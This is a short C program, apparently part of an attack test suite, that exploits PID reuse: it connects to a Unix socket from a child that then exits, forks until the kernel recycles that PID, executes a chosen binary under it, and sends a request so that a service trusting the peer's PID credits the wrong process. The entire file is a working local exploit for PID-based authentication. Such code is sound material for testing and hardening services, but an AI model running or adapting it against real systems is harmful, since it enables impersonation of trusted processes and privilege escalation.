/* A pid is a number: P connects and dies, forks are spent until the kernel gives P's number out again, that
 * process becomes the registered tool, and the keeper of the socket asks.   pid_reuse SOCKET REQUEST TOOL
 * Exit code 78: the number did not come round within the bound.
 */
#include "attack.h"

static int gone(void *unused)
{
	(void)unused;
	_exit(0);
}

int main(int argc, char **argv)
{
	static char stack[1 << 16] __attribute__((aligned(16)));
	int hold[2];
	int sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (argc != 4 || pipe2(hold, O_CLOEXEC) != 0)
		return 2;
	pid_t p = fork();
	if (p == 0) {
		dial_on(sock, argv[1]);
		_exit(0);
	}
	waitpid(p, NULL, 0);
	for (int spent = 0; spent < 600000; spent++) {
		pid_t other = clone(gone, stack + sizeof stack, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
		waitpid(other, NULL, 0);
		/* close below our number every further fork may be it, unless someone else is faster */
		while (other < p && other >= p - 32) {
			other = fork();
			if (other == 0) {
				char *args[] = {argv[3], NULL};
				if (getpid() != p)
					_exit(0);
				dup2(hold[0], 0);
				execv(argv[3], args);
				die("exec");
			}
			if (other == p) {
				usleep(20000);
				tell(sock, argv[2]);
				hear(sock, 1);
				kill(other, SIGKILL);
				waitpid(other, NULL, 0);
				return 0;
			}
			waitpid(other, NULL, 0);
		}
	}
	return 78;
}
